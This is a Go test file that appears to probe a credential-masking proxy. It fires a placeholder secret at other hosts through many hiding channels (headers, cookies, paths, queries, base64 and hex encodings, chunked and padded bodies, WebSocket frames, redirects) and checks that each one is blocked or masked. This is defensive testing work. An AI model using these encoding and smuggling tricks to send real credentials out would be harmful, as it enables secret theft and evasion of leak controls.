package leak

import (
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"compress/gzip"
	"github.com/andybalholm/brotli"
	"github.com/coder/websocket"
	"github.com/klauspost/compress/zstd"
)

// pieces cuts a text into as many parts.
func pieces(text string, n int) (list []string) {
	for i := range n {
		list = append(list, text[i*len(text)/n:(i+1)*len(text)/n])
	}
	return list
}

// placeholders has the placeholder in places where its key may not go.
func (a Aim) placeholders() []way {
	key, leak := a.Keys.Placeholder, []Outcome{"vault.leak"}
	inBase64 := func(before string) string {
		return base64.StdEncoding.EncodeToString([]byte(before + key + ", and more"))
	}
	var list []way
	for _, c := range []struct {
		name string
		call
	}{
		{"as a bearer, to another host", call{fields: a.bearer()}},
		{"as a password, to another host", call{fields: []string{"Authorization", basic("me", key)}}},
		{"in a field", call{fields: []string{"X-Loot", "it is " + key}}},
		{"in a field, in base64", call{fields: []string{"X-Loot", inBase64("")}}},
		{"in a field, in hexadecimal", call{fields: []string{"X-Loot", hex.EncodeToString([]byte(key))}}},
		{"in a cookie", call{fields: []string{"Cookie", "a=" + url.QueryEscape(key)}}},
		{"in the name of a field", call{fields: []string{"X-" + hex.EncodeToString([]byte(key)), "1"}}},
		{"in the path", call{path: "/loot/" + url.PathEscape(key)}},
		{"in the path, in base64", call{path: "/loot/" + strings.NewReplacer("+", "-", "/", "_").Replace(inBase64("x"))}},
		{"in the query", call{path: "/?loot=" + url.QueryEscape(key)}},
		{"in the query, every byte escaped", call{path: "/?loot=" + everyByte(key)}},
		{"in the query, in base64", call{path: "/?loot=" + url.QueryEscape(inBase64("xy"))}},
	} {
		c.method, c.host = http.MethodGet, OtherName
		if c.path == "" {
			c.path = "/"
		}
		list = append(list, a.both(c.name, leak, c.call)...)
	}
	body := []Outcome{"vault.leak", Reset}
	for _, c := range []struct {
		name, text string
		parts      int
	}{
		{"in a body", "loot=" + key, 1}, {"in a body, in two chunks", "loot=" + key + "&x=1", 2}, {"in a body, in chunks of a byte", "loot=" + key + "&x=1", len(key) + 9},
		{"in a body, escaped", "loot=" + url.QueryEscape(key), 1}, {"in a body, escaped, in seven chunks", "loot=" + url.QueryEscape(key), 7},
		{"in a body, in base64", inBase64(""), 1}, {"in a body, in base64, one byte later", inBase64("x"), 1}, {"in a body, in base64, two bytes later, in three chunks", inBase64("xy"), 3},
		{"in a body, in base64 of lines", wrapped(inBase64("abc"), 20), 5}, {"in a body, in hexadecimal", hex.EncodeToString([]byte("loot" + key)), 2},
		{"in a body, in JSON", `{"loot":"` + strings.ReplaceAll(key, "/", `\/`) + `"}`, 2}, {"in a body, behind a mebibyte", strings.Repeat("0123456789abcde\n", 1<<16) + key, 1},
	} {
		for _, host := range []string{OtherName, KeyName, OldKeyName} {
			list = append(list, a.both(c.name+", to "+host, body, call{method: "POST", host: host, path: "/loot", body: pieces(c.text, c.parts)})...)
		}
	}
	for _, host := range []string{OtherName, KeyName} {
		list = append(list, by("", "in a message of a WebSocket to "+host, "wss://"+host+"/socket", []Outcome{"1008"}, func(ctx context.Context, p *probe) seen { return p.converse(ctx, host) }))
	}
	return list
}

// everyByte escapes every byte of a text.
func everyByte(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func wrapped(s string, width int) string {
	var b strings.Builder
	for i, c := range []byte(s) {
		if i > 0 && i%width == 0 {
			b.WriteString("\r\n")
		}
		b.WriteByte(c)
	}
	return b.String()
}

// converse talks over a WebSocket: what is harmless comes back, and then the
// placeholder is sent in a message of two frames.
func (p *probe) converse(ctx context.Context, host string) seen {
	c, _, err := websocket.Dial(ctx, "wss://"+host+"/socket", nil)
	if err != nil {
		return open("the WebSocket itself: %v", err)
	}
	defer c.CloseNow()
	_, first, err := c.Read(ctx)
	if err != nil || p.aim.Keys.findKey(string(first)) {
		return seen{outcome: Leaked, words: fmt.Sprintf("%q, %v", first, err)}
	}
	if err := c.Write(ctx, websocket.MessageText, []byte("hello")); err != nil {
		return open("the WebSocket itself: %v", err)
	}
	if _, said, err := c.Read(ctx); err != nil || string(said) != "hello" {
		return open("the WebSocket itself: %q, %v", said, err)
	}
	w, err := c.Writer(ctx, websocket.MessageText)
	if err != nil {
		return open("the WebSocket itself: %v", err)
	}
	for _, part := range pieces("loot "+p.aim.Keys.Placeholder, 2) {
		if _, err := io.WriteString(w, part); err != nil {
			break // it was closed already
		}
	}
	_ = w.Close()
	_, said, err := c.Read(ctx)
	if closed, ok := errors.AsType[websocket.CloseError](err); ok {
		return seen{outcome: Outcome(fmt.Sprint(int(closed.Code))), words: closed.Reason}
	}
	return open("%q, %v", said, err)
}

// echoes ask a server that sends the credential back for it.
func (a Aim) echoes() []way {
	var list []way
	for _, form := range []string{"plain", "base64", "base64-1", "base64-2", "url", "hex"} {
		for _, coding := range []string{"identity", "gzip", "deflate", "br", "zstd"} {
			list = append(list, a.echo("body/"+form+"/"+coding, KeyName, false))
		}
	}
	for _, place := range []string{"field/plain", "field/base64", "field/url", "early/plain", "trailer/plain", "error/plain", "events/plain", "untyped/plain", "pieces/plain", "pieces/base64-1/zstd", "pieces/hex/br"} {
		list = append(list, a.echo(place, KeyName, false), a.echo(place, OldKeyName, true))
	}
	return list
}

func (a Aim) echo(path, host string, old bool) way {
	c := call{method: http.MethodGet, host: host, path: "/echo/" + path, old: old, fields: append(a.bearer(), "Accept-Encoding", "gzip, deflate, br, zstd")}
	return by("", "echo, "+path+" of "+host, c.String(), []Outcome{Masked}, func(ctx context.Context, p *probe) seen {
		got, err := p.do(ctx, c)
		if err != nil {
			return open("the server itself: %v", err)
		}
		plain, err := unpacked(got.Header.Get("Content-Encoding"), got.body)
		if err != nil {
			return open("%s: %v", got.Header.Get("Content-Encoding"), err)
		}
		place, _, _ := strings.Cut(path, "/")
		where := map[string]string{"field": got.Header.Get("Lab-Echo"), "early": strings.Join(got.early, "\n"), "trailer": got.Trailer.Get("Lab-Echo")}[place]
		if where == "" {
			where = plain
		}
		everything := []string{plain, got.body, strings.Join(got.early, "\n")}
		for _, h := range []http.Header{got.Header, got.Trailer} {
			for _, values := range h {
				everything = append(everything, values...)
			}
		}
		switch {
		case slices.ContainsFunc(everything, p.aim.Keys.findKey):
			return seen{outcome: Leaked, words: firstLine(where)}
		case strings.Contains(where, "[secret:"):
			return seen{outcome: Masked, words: firstLine(where)}
		}
		return open("no mark: %s", firstLine(where))
	})
}

// unpacked undoes a content coding.
func unpacked(coding, body string) (string, error) {
	in := strings.NewReader(body)
	var r io.Reader = in
	var err error
	switch coding {
	case "", "identity":
	case "gzip":
		r, err = gzip.NewReader(in)
	case "deflate":
		r, err = zlib.NewReader(in)
	case "br":
		r = brotli.NewReader(in)
	case "zstd":
		var d *zstd.Decoder
		if d, err = zstd.NewReader(in); err == nil {
			defer d.Close()
			r = d
		}
	default:
		err = fmt.Errorf("an unknown coding %q", coding)
	}
	if err != nil {
		return "", err
	}
	var b strings.Builder
	_, err = io.Copy(&b, r)
	return b.String(), err
}

// redirects follow where a server leads, with the placeholder as before.
func (a Aim) redirects() []way {
	follow := func(name, path string, want []Outcome, old bool) way {
		c := call{method: http.MethodPost, host: KeyName, path: path, fields: a.bearer(), body: []string{a.Token}, old: old}
		return by("", name, c.String()+" and follow, with the same fields", want, func(ctx context.Context, p *probe) seen {
			first, err := p.do(ctx, c)
			if err != nil {
				return open("the server itself: %v", err)
			}
			to, err := url.Parse(first.Header.Get("Location"))
			switch {
			case err != nil || to.Host == "":
				return open("the server itself: %d, Location %q", first.StatusCode, first.Header.Get("Location"))
			case p.aim.Keys.findKey(to.String()):
				return seen{outcome: Leaked, words: to.String()}
			}
			next := c
			next.host, next.path = to.Host, to.RequestURI()
			got, err := p.do(ctx, next)
			if err != nil {
				return cut(err)
			}
			return judge(got.StatusCode, got.Header, got.body)
		})
	}
	var list []way
	for _, old := range []bool{false, true} {
		version := map[bool]string{false: "", true: ", HTTP/1.1"}[old]
		list = append(list, follow("a redirect to another host, with the placeholder"+version, "/redirect", []Outcome{"vault.leak"}, old),
			follow("a redirect to a host that is not allowed, with the key in its address"+version, "/redirect-out", []Outcome{NoName}, old))
	}
	return list
}
